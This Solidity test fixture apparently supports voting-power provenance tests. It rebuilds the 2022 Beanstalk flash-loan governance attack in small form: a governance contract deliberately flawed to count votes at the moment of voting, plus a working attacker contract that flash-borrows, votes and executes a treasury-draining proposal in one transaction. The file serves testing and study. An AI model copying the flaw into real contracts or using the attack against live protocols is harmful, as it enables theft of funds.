// SPDX-License-Identifier: MIT
// Where voting power comes from, rebuilt small for steward's provenance tests (docs/verify.md,
// "Voting-power provenance"): a lending pool with flash loans and loans returned a block later,
// and Beanstalk's April 2022 governance (BIP-18): voting power from deposits counted at the
// moment of the vote, and `emergencyCommit`, which executes a proposal in the transaction that
// votes for it once two thirds of the deposits are behind it.
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Permit.sol";
import {ERC20Votes} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Votes.sol";
import {Nonces} from "@openzeppelin/contracts/utils/Nonces.sol";

interface IFlashBorrower {
    function onFlashLoan(uint256 amount, bytes calldata data) external;
}

/// Lends its asset: a flash loan repaid within the transaction, or a loan repaid later (the
/// one-block loan that puts power into exactly the snapshot block).
contract LoanPool {
    IERC20 public immutable asset;
    mapping(address => uint256) public owed;

    constructor(IERC20 asset_) {
        asset = asset_;
    }

    function flashLoan(address receiver, uint256 amount, bytes calldata data) external {
        uint256 before = asset.balanceOf(address(this));
        require(asset.transfer(receiver, amount), "transfer failed");
        IFlashBorrower(receiver).onFlashLoan(amount, data);
        require(asset.balanceOf(address(this)) >= before, "flash loan not repaid");
    }

    function borrow(uint256 amount) external {
        owed[msg.sender] += amount;
        require(asset.transfer(msg.sender, amount), "transfer failed");
    }

    function repay() external {
        uint256 amount = owed[msg.sender];
        owed[msg.sender] = 0;
        require(asset.transferFrom(msg.sender, address(this), amount), "repay failed");
    }
}

/// Beanstalk's Silo, small: depositing the asset mints as much non-transferable voting power
/// ("stalk"), delegated to the depositor; withdrawing burns it.
contract BeanSilo is ERC20, ERC20Permit, ERC20Votes {
    IERC20 public immutable bean;

    constructor(IERC20 bean_) ERC20("Stalk", "STALK") ERC20Permit("Stalk") {
        bean = bean_;
    }

    function deposit(uint256 amount) external {
        require(bean.transferFrom(msg.sender, address(this), amount), "deposit failed");
        if (delegates(msg.sender) == address(0)) {
            _delegate(msg.sender, msg.sender);
        }
        _mint(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        _burn(msg.sender, amount);
        require(bean.transfer(msg.sender, amount), "withdraw failed");
    }

    function _update(address from, address to, uint256 value) internal override(ERC20, ERC20Votes) {
        require(from == address(0) || to == address(0), "stalk is not transferable");
        super._update(from, to, value);
    }

    function nonces(address owner) public view override(ERC20Permit, Nonces) returns (uint256) {
        return super.nonces(owner);
    }
}

/// Beanstalk's governance, small, speaking OpenZeppelin Governor's events and read functions
/// (so Governor readers see it): one-action proposals, votes weighted by the voter's stalk *now*
/// (not at a snapshot), and `emergencyCommit`, which executes at once with two thirds of all
/// stalk in favour. The governance holds the treasury.
contract BeanGovernance {
    struct Bip {
        address proposer;
        address target;
        bytes data;
        uint256 start;
        uint256 end;
        uint256 forVotes;
        bool executed;
    }

    event ProposalCreated(
        uint256 proposalId,
        address proposer,
        address[] targets,
        uint256[] values,
        string[] signatures,
        bytes[] calldatas,
        uint256 voteStart,
        uint256 voteEnd,
        string description
    );
    event VoteCast(address indexed voter, uint256 proposalId, uint8 support, uint256 weight, string reason);
    event ProposalExecuted(uint256 proposalId);

    BeanSilo public immutable token;
    uint256 public immutable period;
    uint256 public count;
    mapping(uint256 => Bip) internal bips;
    mapping(uint256 => mapping(address => bool)) public hasVoted;

    constructor(BeanSilo silo, uint256 period_) {
        token = silo;
        period = period_;
    }

    function propose(address target, bytes calldata data, string calldata description)
        external
        returns (uint256 id)
    {
        id = ++count;
        bips[id] = Bip(msg.sender, target, data, block.number, block.number + period, 0, false);
        address[] memory targets = new address[](1);
        targets[0] = target;
        uint256[] memory values = new uint256[](1);
        string[] memory signatures = new string[](1);
        bytes[] memory calldatas = new bytes[](1);
        calldatas[0] = data;
        emit ProposalCreated(id, msg.sender, targets, values, signatures, calldatas, block.number, block.number + period, description);
    }

    function vote(uint256 id) external {
        Bip storage b = bips[id];
        require(b.start != 0 && block.number <= b.end, "not active");
        require(!hasVoted[id][msg.sender], "already voted");
        hasVoted[id][msg.sender] = true;
        // The flaw: power as it is now, in this transaction.
        uint256 weight = token.getVotes(msg.sender);
        b.forVotes += weight;
        emit VoteCast(msg.sender, id, 1, weight, "");
    }

    /// Executes at once when two thirds of all stalk voted for it.
    function emergencyCommit(uint256 id) external {
        Bip storage b = bips[id];
        require(b.start != 0 && !b.executed, "not committable");
        require(b.forVotes * 3 >= token.totalSupply() * 2, "no supermajority");
        b.executed = true;
        (bool ok,) = b.target.call(b.data);
        require(ok, "bip failed");
        emit ProposalExecuted(id);
    }

    function proposalSnapshot(uint256 id) external view returns (uint256) {
        return bips[id].start;
    }

    function proposalDeadline(uint256 id) external view returns (uint256) {
        return bips[id].end;
    }

    function proposalProposer(uint256 id) external view returns (address) {
        return bips[id].proposer;
    }

    /// OpenZeppelin's numbering: 1 Active, 3 Defeated, 4 Succeeded, 7 Executed.
    function state(uint256 id) external view returns (uint8) {
        Bip storage b = bips[id];
        require(b.start != 0, "unknown proposal");
        if (b.executed) return 7;
        if (block.number <= b.end) return 1;
        return b.forVotes > 0 ? 4 : 3;
    }

    function quorum(uint256) external view returns (uint256) {
        return token.totalSupply() * 2 / 3;
    }

    function votingDelay() external pure returns (uint256) {
        return 0;
    }

    function votingPeriod() external view returns (uint256) {
        return period;
    }
}

/// BIP-18's attacker: flash-borrows the asset, deposits it for stalk, votes, commits the BIP
/// that sends the treasury to it, withdraws and repays, all in one transaction.
contract BeanAttacker is IFlashBorrower {
    LoanPool internal pool;
    BeanSilo internal silo;
    BeanGovernance internal gov;
    uint256 internal bip;

    function attack(LoanPool pool_, BeanSilo silo_, BeanGovernance gov_, uint256 bip_, uint256 amount) external {
        (pool, silo, gov, bip) = (pool_, silo_, gov_, bip_);
        pool_.flashLoan(address(this), amount, "");
    }

    function onFlashLoan(uint256 amount, bytes calldata) external {
        require(msg.sender == address(pool), "only the pool");
        IERC20 bean = pool.asset();
        bean.approve(address(silo), amount);
        silo.deposit(amount);
        gov.vote(bip);
        gov.emergencyCommit(bip);
        silo.withdraw(amount);
        require(bean.transfer(address(pool), amount), "repay failed");
    }
}
